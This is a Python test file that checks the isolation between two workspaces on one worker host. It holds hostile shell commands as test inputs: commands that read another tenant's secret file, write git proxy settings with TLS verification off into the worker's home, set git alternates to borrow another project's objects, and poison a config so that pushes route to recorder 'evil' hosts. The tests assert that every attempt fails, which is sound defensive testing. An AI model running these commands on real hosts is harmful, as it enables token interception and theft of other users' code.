"""The host is part of the boundary: two workspaces on one server, and every way through the worker's host we could find.

Workspace B (its owner, its maintainer's agent) tries to share A's room: `local` roots on the worker's home,
its configuration and cache folders, A's root (and through links to it), the local git provider's folder,
Brabo's data folders and the temporary folder; git configuration, caches and temporary files written by
B's approved commands; and A's own agent tries to borrow B's objects into A's push. None succeeds: B's
answers tell it nothing about A, B's commands reach neither A's files nor the worker's home, and A's push
with the owner's token goes to the provider and nowhere else (SPEC R1.4, R9.7).
"""

from __future__ import annotations

import json
import tempfile
from pathlib import Path

import pytest

from actions import execution
from actions.models import RUNNABLE, ProposedAction
from actions.tests.exec_fixtures import OWNER_TOKEN, git
from actions.tests.git_http_server import GitHttpRemote
from actions.tests.poisoned_git import ConnectionRecorder, poison_config
from projects.git_settings import workspace_git_root
from projects.models import Project

SECRET = "A's private source, never B's to read"


@pytest.fixture
def host(settings, monkeypatch, tmp_path, local_base):
    """The worker's host, as carelessly laid out as an operator could: the service user's home, its
    configuration and cache folders and the temporary folder all inside the base for `local` roots, so only
    the overlap checks stand in the way."""

    class Host:
        base: Path
        home: Path
        temp: Path

    h = Host()
    h.base = local_base
    h.home = local_base / "worker-home"
    for sub in (".config/git", ".cache", ".ssh"):
        (h.home / sub).mkdir(parents=True)
    monkeypatch.setenv("HOME", str(h.home))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(h.home / ".config"))
    monkeypatch.setenv("XDG_CACHE_HOME", str(h.home / ".cache"))
    h.temp = local_base / "worker-tmp"
    h.temp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(h.temp))
    settings.VAR_DIR = tmp_path / "var"
    settings.VAR_DIR.mkdir(exist_ok=True)
    settings.BRABO_LOCAL_GIT_ROOT = local_base / "git"  # the local provider's folder, inside the base too
    settings.BRABO_LOCAL_GIT_ROOT.mkdir()
    return h


@pytest.fixture
def a_root(team, host):
    """Workspace A's `local` project: a git checkout holding a secret, pushed to a fake provider."""
    root = host.base / "a-app"
    root.mkdir()
    resp = team.world.client(team.owner).post(
        "/api/projects/",
        {"workspace": str(team.ws.id), "name": "a-app", "execution_mode": "local", "local_path": str(root)},
        format="json",
    )
    assert resp.status_code == 201, resp.content
    git(root, "init", "-q", "-b", "main")
    (root / "secret.txt").write_text(SECRET + "\n")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "A's work")
    return root


def _b_creates(team, path, name="b-app"):
    return team.world.client(team.outsider).post(
        "/api/projects/",
        {
            "workspace": str(team.other_ws.id),
            "name": name,
            "execution_mode": "local",
            "local_path": str(path),
        },
        format="json",
    )


def test_b_cannot_put_a_local_root_on_anything_shared_and_learns_nothing_of_a(team, settings, host, a_root):
    git_root = Path(settings.BRABO_LOCAL_GIT_ROOT)
    (workspace_git_root(team.ws.id) / "acme").mkdir(parents=True)
    links = {"link-to-a": a_root, "link-to-home": host.home, "link-to-git": git_root}
    for name, target in links.items():
        (host.base / name).symlink_to(target)
    shared = [
        host.home,
        host.home / ".config",
        host.home / ".config" / "git",
        host.home / ".cache",
        host.home / ".ssh",
        host.temp,
        a_root,
        a_root / ".git",
        host.base,  # the whole base, A's root inside it
        git_root,
        workspace_git_root(team.ws.id),
        Path(settings.VAR_DIR),
        Path(settings.PROJECT_WORKSPACES_ROOT),
        team.project.folder,  # A's managed project folder
        Path(settings.BRABO_PROJECTS_BASE),
        Path(settings.BASE_DIR),  # Brabo's checkout
        Path("/root"),
        Path("/root/.ssh"),
        Path("/var/lib/postgresql"),
        Path("/etc"),
        Path("/tmp"),
        Path("/proc/self"),
        *(host.base / name for name in links),
    ]
    answers = {}
    for path in shared:
        resp = _b_creates(team, path)
        assert resp.status_code == 400, (path, resp.content)
        body = resp.json()
        assert body["reason"] == "local_path_not_allowed", (path, body)
        text = json.dumps(body).replace(str(path), "<path>")  # B's own input, echoed back, aside
        for a_thing in ("Acme", "olivia", str(team.ws.id), "a-app' is", "another workspace"):
            assert a_thing not in text, (path, text)
        answers[path] = body["detail"].replace(repr(str(path)), "<path>")
    # A's root reads exactly like the worker's home or the git folder: nothing says someone holds it.
    assert answers[a_root] == answers[host.home] == answers[git_root] == answers[host.base / "link-to-a"]
    assert not Project.objects.filter(workspace=team.other_ws, execution_mode="local").exists()


def _require_bwrap():
    import os

    from containers.bwrap import bwrap_path

    if bwrap_path() is None:
        if os.environ.get("CI", "").lower() in ("1", "true", "yes"):
            pytest.fail("bubblewrap (bwrap) is not installed")
        pytest.skip("bubblewrap (bwrap) is not installed: apt-get install bubblewrap")


def _propose_and_approve(team, key, approver, action_type, payload, capture):
    agent = team.world.client(agent_key=key)
    proposed = agent.post("/api/actions/", {"action_type": action_type, "payload": payload}, format="json")
    assert proposed.status_code == 201, proposed.content
    action_id = proposed.json()["id"]
    if proposed.json()["status"] == "pending":
        with capture(execute=True):
            resp = team.world.client(approver).post(f"/api/actions/{action_id}/approve/")
        assert resp.status_code == 200, resp.content
    # With a broker (CI) the approval hands the work to a worker's queue that this test does not consume:
    # run it here, as the worker would (a no-op when the in-process worker already did).
    if ProposedAction.objects.filter(pk=action_id, status__in=RUNNABLE).exists():
        execution.execute(action_id)
    return ProposedAction.objects.get(pk=action_id)


def test_b_commands_reach_neither_a_nor_the_host_and_a_token_goes_only_to_the_provider(
    team, settings, host, a_root, owner_token, django_capture_on_commit_callbacks
):
    _require_bwrap()
    capture = django_capture_on_commit_callbacks
    # B: a legitimate root of its own, and an agent acting for B's owner.
    b_root = host.base / "b-app"
    b_root.mkdir()
    assert _b_creates(team, b_root).status_code == 201
    b_project = Project.objects.get(workspace=team.other_ws, name="b-app")
    _, b_key = team.world.agent(b_project, team.outsider, "dev-b")
    served = host.base.parent / "served"
    served.mkdir()
    git(served, "init", "-q", "--bare", "app.git")
    owner_token("github", "https://api.github.example")
    a_project = Project.objects.get(workspace=team.ws, name="a-app")
    _, a_key = team.world.agent(a_project, team.maintainer, "dev-a")
    before = {p: p.read_bytes() for p in a_root.rglob("*") if p.is_file()}

    with (
        GitHttpRemote(served, OWNER_TOKEN) as provider,
        ConnectionRecorder() as proxy,
        ConnectionRecorder() as evil,
    ):
        a_project.git_remote_url = provider.url("app.git")
        a_project.git_remote_set_by = a_project.workspace.owner  # the owner's remote
        a_project.save()
        poison = host.base.parent / "b-poison"
        poison.mkdir()
        b_conf = "[http]\\n\\tproxy = " + proxy.url + "\\n\\tsslVerify = false\\n"
        attack = (
            # the worker's home, its XDG config and caches, by name and by absolute path
            f"mkdir -p ~/.config/git ~/.cache; printf '{b_conf}' > ~/.gitconfig; cp ~/.gitconfig ~/.config/git/config; "
            f"printf '{b_conf}' > {host.home}/.gitconfig; printf '{b_conf}' > {host.home}/.config/git/config; "
            f"git config --global http.proxy {proxy.url}; "
            # temporary folders: the sandbox's and the worker's
            f"echo planted > /tmp/brabo-push-planted; echo planted > {host.temp}/planted; "
            # A's files, by path and by the git provider's folder
            f"cat {a_root}/secret.txt; ls {a_root}; cat {settings.BRABO_LOCAL_GIT_ROOT}/*/*/*; "
            f"echo x >> {a_root}/secret.txt; echo done"
        )
        attacked = _propose_and_approve(
            team, b_key, team.outsider, "terminal", {"command": attack, "cwd": str(b_root)}, capture
        )
        assert attacked.status == "executed", attacked.result
        assert attacked.result["stdout"].rstrip().endswith("done")
        assert SECRET not in json.dumps(attacked.result)
        assert not (host.home / ".gitconfig").exists() and not (host.home / ".config/git/config").exists()
        assert not (host.temp / "planted").exists() and not Path("/tmp/brabo-push-planted").exists()
        assert {p: p.read_bytes() for p in a_root.rglob("*") if p.is_file()} == before

        # A's own agent tries the other direction: borrow B's objects into A's push.
        git(b_root, "init", "-q", "-b", "main")
        (b_root / "b-secret.txt").write_text("B's private source\n")
        git(b_root, "add", "-A")
        git(b_root, "commit", "-q", "-m", "B's work")
        # Even if a neighbour had reached the worker's home some other way, A's pushes would not read it.
        poison_config(
            host.home / ".gitconfig", poison, proxy=proxy.url, evil=evil.url, remote_base=provider.url("")
        )
        borrow = _propose_and_approve(
            team, a_key, team.owner, "terminal",
            {"command": f"echo {b_root}/.git/objects > .git/objects/info/alternates", "cwd": str(a_root)},
            capture,
        )  # fmt: skip
        assert borrow.status == "executed", borrow.result
        refused = _propose_and_approve(team, a_key, team.owner, "git_push", {"branch": "main"}, capture)
        assert refused.status == "failed"
        assert refused.result["error"]["code"] == "git_objects_outside_project"
        (a_root / ".git" / "objects" / "info" / "alternates").unlink()

        pushed = _propose_and_approve(team, a_key, team.owner, "git_push", {"branch": "main"}, capture)
        markers = sorted(p.name for p in (poison / "markers").iterdir())
        (host.home / ".gitconfig").unlink()  # the test's own git below reads the home

    assert markers == []  # no hook, helper, ssh command or fsmonitor from the home ran
    assert pushed.status == "executed", pushed.result
    assert git(served / "app.git", "show", "main:secret.txt") == SECRET
    assert provider.auth_seen and all(provider.auth_seen[1:])  # the provider got the token...
    assert proxy.seen == [] and evil.seen == []  # ...and nobody else saw a byte
    assert list(host.temp.iterdir()) == []  # the push's private home is gone


@pytest.mark.integration
@pytest.mark.django_db(transaction=True)
def test_through_the_real_worker_a_poisoned_worker_home_never_steers_the_owners_push(
    worker_dirs, team, owner_token
):
    """Finding 1 as the attacker ran it, through a real worker process: B's approved command writes git config
    to the worker's home (the sandbox keeps it out), and even with the home poisoned behind the sandbox's back,
    A's approved push with the owner's token goes to the provider and nowhere else."""
    from actions.tests.test_integration_worker import wait_settled

    _require_bwrap()
    base, home = worker_dirs.local_roots, worker_dirs.home
    suffix = str(team.ws.id)[:8]
    a_root, b_root = base / f"a-{suffix}", base / f"b-{suffix}"
    a_root.mkdir()
    b_root.mkdir()
    assert _b_creates(team, b_root).status_code == 201
    b_project = Project.objects.get(workspace=team.other_ws, name="b-app")
    _, b_key = team.world.agent(b_project, team.outsider, "dev-b")
    a_resp = team.world.client(team.owner).post(
        "/api/projects/",
        {"workspace": str(team.ws.id), "name": "a-app", "execution_mode": "local", "local_path": str(a_root)},
        format="json",
    )
    assert a_resp.status_code == 201, a_resp.content
    a_project = Project.objects.get(pk=a_resp.json()["id"])
    _, a_key = team.world.agent(a_project, team.maintainer, "dev-a")
    git(a_root, "init", "-q", "-b", "main")
    (a_root / "secret.txt").write_text(SECRET + "\n")
    git(a_root, "add", "-A")
    git(a_root, "commit", "-q", "-m", "A's work")
    served = base.parent / f"served-{suffix}"
    served.mkdir()
    git(served, "init", "-q", "--bare", "app.git")
    owner_token("github", "https://api.github.example")
    poison = base.parent / f"poison-{suffix}"
    poison.mkdir()

    def decided(key, approver, action_type, payload):
        agent = team.world.client(agent_key=key)
        made = agent.post("/api/actions/", {"action_type": action_type, "payload": payload}, format="json")
        assert made.status_code == 201, made.content
        if made.json()["status"] == "pending":
            ok = team.world.client(approver).post(f"/api/actions/{made.json()['id']}/approve/")
            assert ok.status_code == 200, ok.content
        return wait_settled(ProposedAction.objects.get(pk=made.json()["id"]))

    try:
        with (
            GitHttpRemote(served, OWNER_TOKEN) as provider,
            ConnectionRecorder() as proxy,
            ConnectionRecorder() as evil,
        ):
            a_project.git_remote_url = provider.url("app.git")
            a_project.git_remote_set_by = a_project.workspace.owner  # the owner's remote
            a_project.save()
            conf = "[http]\\n\\tproxy = " + proxy.url + "\\n\\tsslVerify = false\\n"
            attack = (
                f"printf '{conf}' > {home}/.gitconfig; mkdir -p {home}/.config/git; "
                f"printf '{conf}' > {home}/.config/git/config; printf '{conf}' > ~/.gitconfig; "
                f"cat {a_root}/secret.txt; echo done"
            )
            attacked = decided(b_key, team.outsider, "terminal", {"command": attack, "cwd": str(b_root)})
            assert attacked.status == "executed", attacked.result
            assert SECRET not in json.dumps(attacked.result)
            assert not (home / ".gitconfig").exists() and not (home / ".config" / "git").exists()

            for config in (home / ".gitconfig", home / ".config" / "git" / "config"):
                config.parent.mkdir(parents=True, exist_ok=True)
                poison_config(config, poison, proxy=proxy.url, evil=evil.url, remote_base=provider.url(""))
            pushed = decided(a_key, team.owner, "git_push", {"branch": "main"})
            markers = sorted(p.name for p in (poison / "markers").iterdir())
    finally:
        for config in (home / ".gitconfig", home / ".config" / "git" / "config"):
            config.unlink(missing_ok=True)  # the session's worker home is shared with later tests

    assert pushed.status == "executed", pushed.result
    assert git(served / "app.git", "show", "main:secret.txt") == SECRET
    assert provider.auth_seen and provider.auth_seen[-1] is True
    assert proxy.seen == [] and evil.seen == [] and markers == []
